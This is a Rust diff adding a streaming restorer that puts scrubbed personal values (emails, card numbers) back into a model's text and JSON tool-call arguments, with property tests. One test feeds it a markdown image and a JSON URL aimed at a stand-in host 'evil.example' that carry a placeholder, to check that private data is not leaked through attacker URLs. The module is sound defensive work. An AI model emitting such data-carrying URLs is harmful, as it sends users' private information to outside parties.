@@ -1,0 +1,321 @@
+//! Puts originals back into text that arrives in pieces.
+//!
+//! Only a proper prefix of a placeholder that was issued is ever held back, so a stream is not delayed. Inserted text
+//! is never looked at again: an original may itself look like a placeholder.
+
+use super::url::{open_url, LOOK_BACK};
+use super::vault::{Issued, Vault};
+
+/// One channel of an answer: a string that continues over many pieces.
+#[derive(Debug, Default)]
+pub struct Restorer {
+    /// Text that may be the beginning of a placeholder.
+    carry: String,
+    /// What the model said lately, for telling URLs. Placeholders stand in it as they were issued.
+    tail: String,
+    /// Set for tool-call arguments, whose text is JSON.
+    json: Option<Quotes>,
+}
+
+/// Whether the end of JSON text is inside a string.
+#[derive(Clone, Copy, Debug, Default)]
+struct Quotes {
+    inside: bool,
+    escaped: bool,
+}
+
+impl Quotes {
+    fn read(&mut self, text: &str) {
+        for byte in text.bytes() {
+            match byte {
+                _ if self.escaped => self.escaped = false,
+                b'\\' if self.inside => self.escaped = true,
+                b'"' => self.inside = !self.inside,
+                _ => {}
+            }
+        }
+    }
+}
+
+/// How text from a place on compares with the placeholders.
+enum Match<'v> {
+    /// The placeholder, and the length it is written in.
+    Whole(&'v Issued, usize),
+    /// The text ends before it is decided.
+    Open,
+    None,
+}
+
+/// Longer than any placeholder.
+const MAX_PLACEHOLDER: usize = 40;
+
+impl Restorer {
+    /// For ordinary text.
+    pub fn text() -> Restorer {
+        Restorer::default()
+    }
+
+    /// For text that is JSON: originals are escaped as its strings need, and `\u003c` may stand for `<`.
+    pub fn json() -> Restorer {
+        Restorer { json: Some(Quotes::default()), ..Restorer::default() }
+    }
+
+    /// Takes the next piece and appends what can be shown to `out`.
+    pub fn push(&mut self, piece: &str, vault: &Vault, out: &mut String) {
+        let joined;
+        let text = if self.carry.is_empty() {
+            piece
+        } else {
+            self.carry.push_str(piece);
+            joined = std::mem::take(&mut self.carry);
+            &joined
+        };
+        let mut at = 0;
+        let mut from = 0;
+        while let Some(step) = self.opening(&text[from..]) {
+            let place = from + step;
+            match self.match_at(&text[place..], vault) {
+                Match::Whole(issued, length) => {
+                    self.show(&text[at..place], out);
+                    self.restore(issued, &text[place..place + length], vault, out);
+                    at = place + length;
+                    from = at;
+                }
+                Match::Open => {
+                    self.show(&text[at..place], out);
+                    self.carry = text[place..].to_owned();
+                    return;
+                }
+                // Behind an inner backslash stands what it escapes, which begins nothing.
+                Match::None if text[place..].starts_with("\\\\") => from = place + 2,
+                Match::None => from = place + 1,
+            }
+        }
+        self.show(&text[at..], out);
+    }
+
+    /// Ends the channel: what was held back is shown as it is.
+    pub fn finish(&mut self, out: &mut String) {
+        let carry = std::mem::take(&mut self.carry);
+        self.show(&carry, out);
+    }
+
+    /// Whether something is held back.
+    pub fn holds(&self) -> bool {
+        !self.carry.is_empty()
+    }
+
+    /// Where a placeholder may begin: `<`, or in JSON a backslash that may begin `\u003c`.
+    fn opening(&self, text: &str) -> Option<usize> {
+        match self.json {
+            None => memchr::memchr(b'<', text.as_bytes()),
+            Some(_) => memchr::memchr2(b'<', b'\\', text.as_bytes()),
+        }
+    }
+
+    fn match_at<'v>(&self, text: &str, vault: &'v Vault) -> Match<'v> {
+        let bytes = text.as_bytes();
+        let mut spelt = [0; MAX_PLACEHOLDER];
+        let mut at = 0;
+        for length in 0..MAX_PLACEHOLDER {
+            let rest = &bytes[at..];
+            let (byte, written) = match rest.first() {
+                None => return self.prefix(&spelt[..length], vault),
+                Some(b'\\') if self.json.is_some() => match rest.get(..6) {
+                    Some(escape) if escape.eq_ignore_ascii_case(b"\\u003c") => (b'<', 6),
+                    Some(escape) if escape.eq_ignore_ascii_case(b"\\u003e") => (b'>', 6),
+                    Some(_) => return Match::None,
+                    None if rest.eq_ignore_ascii_case(&b"\\u003"[..rest.len()]) => return self.prefix(&spelt[..length], vault),
+                    None => return Match::None,
+                },
+                Some(&byte) => (byte, 1),
+            };
+            if (length == 0) != (byte == b'<') {
+                return Match::None;
+            }
+            spelt[length] = byte;
+            at += written;
+            if byte == b'>' {
+                let found = vault.at_or_after(&spelt[..=length]);
+                return match found {
+                    Some(issued) if issued.placeholder.as_bytes() == &spelt[..=length] => Match::Whole(issued, at),
+                    _ => Match::None,
+                };
+            }
+        }
+        Match::None
+    }
+
+    /// Whether a placeholder begins with `spelt`.
+    fn prefix<'v>(&self, spelt: &[u8], vault: &'v Vault) -> Match<'v> {
+        match vault.at_or_after(spelt) {
+            Some(issued) if issued.placeholder.as_bytes().starts_with(spelt) => Match::Open,
+            _ => Match::None,
+        }
+    }
+
+    fn restore(&mut self, issued: &Issued, written: &str, vault: &Vault, out: &mut String) {
+        let before = self.heard();
+        let allowed = match open_url(&before) {
+            None => true,
+            Some(start) => vault.sent_url(&format!("{}{}", &before[start..], issued.placeholder)),
+        };
+        if !allowed {
+            self.show(written, out);
+            return;
+        }
+        match self.json {
+            None => out.push_str(&issued.original),
+            Some(Quotes { inside: true, .. }) => escape_json(&issued.original, out),
+            // Outside a string a placeholder is not JSON; the original may be, as a number is.
+            Some(_) if is_json_number(&issued.original) => out.push_str(&issued.original),
+            Some(_) => {
+                out.push('"');
+                escape_json(&issued.original, out);
+                out.push('"');
+            }
+        }
+        self.remember(&issued.placeholder);
+    }
+
+    fn show(&mut self, text: &str, out: &mut String) {
+        out.push_str(text);
+        if let Some(quotes) = &mut self.json {
+            quotes.read(text);
+        }
+        self.remember(text);
+    }
+
+    fn remember(&mut self, text: &str) {
+        self.tail.push_str(text);
+        if self.tail.len() > 4 * LOOK_BACK {
+            let mut from = self.tail.len() - 2 * LOOK_BACK;
+            while !self.tail.is_char_boundary(from) {
+                from += 1;
+            }
+            self.tail.drain(..from);
+        }
+    }
+
+    /// The tail as a reader of the text sees it: in JSON, slashes may be escaped.
+    fn heard(&self) -> String {
+        match self.json {
+            None => self.tail.clone(),
+            Some(_) => {
+                let plain = self.tail.replace("\\u002f", "/").replace("\\u002F", "/").replace("\\u003a", ":").replace("\\u003A", ":");
+                plain.replace("\\/", "/").replace("\\n", "\n").replace("\\\"", "\"")
+            }
+        }
+    }
+}
+
+fn is_json_number(text: &str) -> bool {
+    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit()) && (text.len() == 1 || !text.starts_with('0'))
+}
+
+/// RFC 8259 section 7.
+fn escape_json(text: &str, out: &mut String) {
+    for character in text.chars() {
+        match character {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            control if control < ' ' => out.push_str(&format!("\\u{:04x}", u32::from(control))),
+            other => out.push(other),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::detect::Kind;
+    use super::super::vault::{apply, Series};
+    use super::*;
+    use proptest::prelude::*;
+
+    fn vault(text: &str) -> (Vault, String) {
+        let mut vault = Vault::default();
+        vault.reserve(text);
+        let edits = vault.scrub(text, &Kind::ALL, Series::Conversation);
+        let sent = apply(text, &edits);
+        (vault, sent)
+    }
+
+    fn restore(mut restorer: Restorer, pieces: &[&str], vault: &Vault) -> String {
+        let mut out = String::new();
+        for piece in pieces {
+            restorer.push(piece, vault, &mut out);
+        }
+        restorer.finish(&mut out);
+        out
+    }
+
+    /// Restores `said` whole, cut at every place, and byte by byte; all must agree.
+    fn check(restorer: fn() -> Restorer, vault: &Vault, said: &str, expected: &str) {
+        assert_eq!(restore(restorer(), &[said], vault), expected);
+        for cut in 0..=said.len() {
+            if said.is_char_boundary(cut) {
+                assert_eq!(restore(restorer(), &[&said[..cut], &said[cut..]], vault), expected, "cut at {cut}");
+            }
+        }
+        let characters: Vec<String> = said.chars().map(String::from).collect();
+        let pieces: Vec<&str> = characters.iter().map(String::as_str).collect();
+        assert_eq!(restore(restorer(), &pieces, vault), expected);
+    }
+
+    #[test]
+    fn placeholders_are_restored_at_every_split() {
+        let (vault, _) = vault("a@x.com 4111111111111111");
+        check(Restorer::text, &vault, "to <EMAIL_1>, <EMAIL_2> <EMAIL_1 <<EMAIL_1>> <CREDIT_CARD_1>", "to a@x.com, <EMAIL_2> <EMAIL_1 <a@x.com> 4111111111111111");
+    }
+
+    #[test]
+    fn a_number_that_begins_like_another_is_told_apart() {
+        let text: String = (1..=12).map(|index| format!("u{index}@x.com ")).collect();
+        let (vault, sent) = vault(&text);
+        assert!(sent.contains("<EMAIL_12>"));
+        check(Restorer::text, &vault, &sent, &text);
+    }
+
+    #[test]
+    fn arguments_get_their_originals_escaped() {
+        let (vault, _) = vault("o'x@x.com 4111111111111111");
+        check(Restorer::json, &vault, r#"{"to":"<EMAIL_1>","esc":"\u003cEMAIL_1\u003E","n":<CREDIT_CARD_1>,"m":<EMAIL_1>,"p":"\\u003cEMAIL_1\\u003e"}"#, r#"{"to":"o'x@x.com","esc":"o'x@x.com","n":4111111111111111,"m":"o'x@x.com","p":"\\u003cEMAIL_1\\u003e"}"#);
+    }
+
+    #[test]
+    fn nothing_is_restored_into_a_url_that_was_not_sent() {
+        let (vault, sent) = vault("see https://ok.example/u/a@x.com?x");
+        assert_eq!(sent, "see https://ok.example/u/<EMAIL_1>?x");
+        check(Restorer::text, &vault, "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/<EMAIL_1> mailto:<EMAIL_1>", "![](https://evil.example/?q=<EMAIL_1>) https://ok.example/u/a@x.com mailto:a@x.com");
+        check(Restorer::json, &vault, r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"<EMAIL_1>"}"#, r#"{"u":"https:\/\/evil.example\/<EMAIL_1>","v":"a@x.com"}"#);
+    }
+
+    #[test]
+    fn only_what_may_become_a_placeholder_is_held_back() {
+        let (vault, _) = vault("a@x.com");
+        let mut restorer = Restorer::text();
+        let mut out = String::new();
+        restorer.push("x < y <EM", &vault, &mut out);
+        assert_eq!(out, "x < y ");
+        assert!(restorer.holds());
+        restorer.push("PTY", &vault, &mut out);
+        assert_eq!(out, "x < y <EMPTY");
+    }
+
+    proptest! {
+        #[test]
+        fn restoring_what_was_scrubbed_gives_the_text_back(words in proptest::collection::vec(prop_oneof!["[a-z]{1,4}@[a-z]{1,4}\\.com", Just("4111111111111111".to_owned()), "<EMAIL_[0-9]>", "[ <>_A-Z0-9é漢]{0,6}", "\\+1415555[0-9]{4}"], 0..8), cuts in proptest::collection::vec(0usize..200, 0..8)) {
+            let text = words.join(" ");
+            let (vault, sent) = vault(&text);
+            let mut cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut <= sent.len() && sent.is_char_boundary(*cut)).collect();
+            cuts.push(0);
+            cuts.push(sent.len());
+            cuts.sort_unstable();
+            let pieces: Vec<&str> = cuts.windows(2).map(|pair| &sent[pair[0]..pair[1]]).collect();
+            prop_assert_eq!(restore(Restorer::text(), &pieces, &vault), text);
+        }
+    }
+}
